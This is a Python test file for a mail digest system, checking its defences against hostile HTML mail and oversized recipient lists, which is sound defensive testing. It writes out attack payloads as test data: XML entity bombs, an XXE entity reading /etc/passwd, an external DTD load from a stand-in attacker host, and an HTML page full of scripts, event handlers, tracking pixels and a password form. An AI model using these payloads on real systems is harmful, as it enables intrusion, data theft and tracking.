#!/usr/bin/python3
"""The rest of the attackers (docs/privacy.md): entities that grow, ten thousand recipients, HTML that runs, loads and hides."""
import re
import time

from circle_kit import ANA, GROUP, LEE, MARIA, ROSE, TOM, Circle
from house_kit import letter, run_tests

TRACK = 'track.attacker.example'


def html_mail(sender, page, text=None):
    """As mail programs write it: HTML alone, or beside its text."""
    top, _, _ = letter(sender, GROUP, 'My walk', 'BODY').partition(b'Content-Type: text/plain')
    html = b'Content-Type: text/html; charset=utf-8\r\n\r\n' + page.encode()
    if text is None:
        return top + html
    return top + b'Content-Type: multipart/alternative; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n' + text.encode() + b'\r\n--B\r\n' + html + b'\r\n--B--\r\n'


def entity_bombs(folder):
    circle = Circle(folder)
    laughs = '<!ENTITY a0 "ha">' + ''.join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    pages = {
        'a billion laughs': f'<?xml version="1.0"?><!DOCTYPE html [{laughs}]><html><body><p>Word one.</p>&a9;</body></html>',
        'a file by name': '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><p>Word two.</p>&x;</body></html>',
        'a server by name': f'<!DOCTYPE html [<!ENTITY % x SYSTEM "http://{TRACK}/x.dtd"> %x;]><html><body><p>Word three.</p></body></html>',
        'a million numbers': '<p>Word four.</p>' + '&#x41;' * 100000,
        'tags in tags': '<p>Word five.</p>' + '<div><b>' * 20000 + 'deep',
        'a table of tables': '<p>Word six.</p>' + '<table><tr><td>' * 5000 + 'x',
    }
    for name, page in pages.items():
        start = time.monotonic()
        circle.arrives(html_mail(MARIA, page), GROUP, MARIA)
        assert time.monotonic() - start < 20, name
        state, = circle.rows('SELECT state FROM arrival ORDER BY id DESC LIMIT 1')[0]
        assert state in (4, 5), f'{name} waits'
        assert state == 5 or circle.rows('SELECT outcome FROM letter ORDER BY id DESC LIMIT 1') == [(1,)], name
    for m in circle.mail(ANA):
        assert 'root:' not in m.text and len(m.data) < 600 << 10, (m.subject, len(m.data))
    assert any('Word one.' in m.text for m in circle.mail(ANA)) and any('Word two.' in m.text for m in circle.mail(ANA))
    circle.says(TOM, 'And life goes on.')
    assert 'And life goes on.' in str(circle.json('review', 'list'))


def ten_thousand_recipients(folder):
    """Nobody of them is ever written to; what is too long to be read is kept whole, and staff are told."""
    circle = Circle(folder)
    before = set(circle.everybody())
    friends = [f'f{n}@example.org' for n in range(10000)]
    told = len(circle.mail(LEE))
    for field in ('To', 'Cc'):
        mail = letter(MARIA, GROUP, 'Hello all', f'To all of you, by {field}.', extra=f'{field}: ' + ',\r\n '.join(friends) + '\r\n')
        circle.arrives(mail, GROUP, MARIA)
        state, size = circle.rows('SELECT state, bytes FROM arrival ORDER BY id DESC LIMIT 1')[0]
        assert (state, size) == (5, len(mail)) and len(circle.mail(LEE)) > told, (state, size, len(mail))
    # as many as can be read: an ordinary note
    mail = letter(TOM, GROUP, 'Hello all', 'To many of you.', extra='Cc: ' + ',\r\n '.join(friends[:2500]) + '\r\n')
    circle.arrives(mail, GROUP, TOM)
    circle.says(ANA, 'OK', [m for m in circle.mail(ANA) if 'note waits' in m.subject and 'To many of you.' in m.text][-1])
    circle.next_digest()
    assert circle.who_read('To many of you.') == sorted([MARIA, ROSE, TOM])
    assert set(circle.everybody()) == before, set(circle.everybody()) - before
    assert not any(f'{f}'.encode() in m.data for who in (MARIA, ROSE) for m in circle.mail(who) for f in friends[:50])


PAGE = f'''<html><head><meta http-equiv="refresh" content="0;url=http://{TRACK}/go"><base href="http://{TRACK}/">
<link rel="stylesheet" href="http://{TRACK}/a.css"><style>@import url(http://{TRACK}/b.css); p {{ background: url(http://{TRACK}/c.png) }}</style>
<script>document.write("stolen words")</script></head><body background="http://{TRACK}/d.png" onload="alert(1)">
<p onclick="alert(2)">I walked to the lake.</p><img src="http://{TRACK}/pixel.gif?who=maria" width=1 height=1><img src="https://{TRACK}/big.jpg" alt="">
<iframe src="http://{TRACK}/f"></iframe><object data="http://{TRACK}/o"></object><embed src="http://{TRACK}/e"><svg onload="alert(3)"><script>alert(4)</script></svg>
<form action="http://{TRACK}/form"><input name="password" value="give it"><button>Press</button></form><video src="http://{TRACK}/v"></video>
<a href="javascript:alert(5)">Read on</a> <a href="data:text/html,x">and on</a><noscript><img src="http://{TRACK}/n.gif"></noscript>
<p style="background:url('http://{TRACK}/s.png')">It was <b>lovely</b>.</p></body></html>'''


def html_that_runs_and_loads(folder):
    circle = Circle(folder)
    for text in (None, 'I walked to the lake.\r\n\r\nIt was lovely.'):
        circle.arrives(html_mail(MARIA, PAGE, text), GROUP, MARIA)
        asked = [m for m in circle.mail(ANA) if 'note waits' in m.subject and 'I walked to the lake.' in m.text][-1]
        circle.says(ANA, 'OK', asked)
        circle.next_digest()
        assert circle.who_read('I walked to the lake.') == sorted([MARIA, ROSE, TOM])
        for who in (ROSE, TOM):
            digest = circle.newest(who, 'I walked to the lake.')
            page = digest.message.get_body(('html',)).get_content()
            assert 'It was lovely.' in ' '.join(digest.text.split())
            page = page.partition('<body')[2]  # our own style stands above it
            assert not re.search(r'<(script|style|iframe|object|embed|svg|form|input|img|video|link|base|meta)', page, re.I), page
            assert not re.search(r'\son\w+=|javascript:|data:|url\(', page, re.I), page
            assert TRACK not in page and TRACK not in digest.text and 'alert(' not in page, page
            assert 'stolen words' not in digest.text and 'password' not in page
        for m in circle.mail(ANA):
            page = m.message.get_body(('html',)).get_content()
            assert not re.search(r'<(script|iframe|object|embed|svg|form|img|video|link|base)|(src|href|background)="?http://' + TRACK, page, re.I), page


run_tests([entity_bombs, ten_thousand_recipients, html_that_runs_and_loads])
